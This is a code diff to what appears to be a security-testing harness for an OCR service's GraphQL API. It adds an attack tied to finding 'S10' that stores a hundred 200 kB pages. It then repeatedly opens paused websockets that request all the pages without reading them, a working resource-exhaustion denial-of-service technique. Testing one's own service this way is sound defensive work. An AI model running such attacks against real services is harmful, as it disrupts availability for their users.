@@ -2,7 +2,7 @@ import { WebSocket } from 'ws';
 import type { Attack } from '../attack.ts';
 import { holdSockets } from '../held-sockets.ts';
 import { aborted, persist } from '../persist.ts';
-import { storeText } from '../stored-requests.ts';
+import { storePages, storeText } from '../stored-requests.ts';
 import { withClient } from '../with-client.ts';
 import { openSocket } from './open-socket.ts';
 
@@ -31,6 +31,29 @@ export const unreadSockets: Attack = {
       for (let n = 0; n < 20 && socket.readyState === WebSocket.OPEN; n++)
         socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
       await aborted(AbortSignal.any([signal, AbortSignal.timeout(5000)])); // one that does not read does not see its end
+      socket.terminate();
+    });
+  },
+};
+
+const PAGES = 100;
+const PAGE_CHARACTERS = 200_000;
+
+/** Texts that are short enough to be written at once, and many of them in each answer. */
+export const unreadPages: Attack = {
+  name: 'twenty GraphQL sockets that ask for a hundred pages of 200 kB and read nothing',
+  finding: 'S10',
+  run: async ({ url, databaseUrl, funded }, signal) => {
+    const id = await withClient(databaseUrl, (client) =>
+      storePages(client, funded.accountId, { pages: PAGES, characters: PAGE_CHARACTERS }),
+    );
+    const query = `{ ocrRequest(id: "${id}") { pageResults(first: ${PAGES}) { text } } }`;
+    await persist(signal, { width: 20, pauseMs: 500 }, async () => {
+      const socket = await openSocket(url, funded.apiKey, signal);
+      socket.pause();
+      for (let n = 0; n < 20 && socket.readyState === WebSocket.OPEN; n++)
+        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
+      await aborted(AbortSignal.any([signal, AbortSignal.timeout(5000)]));
       socket.terminate();
     });
   },
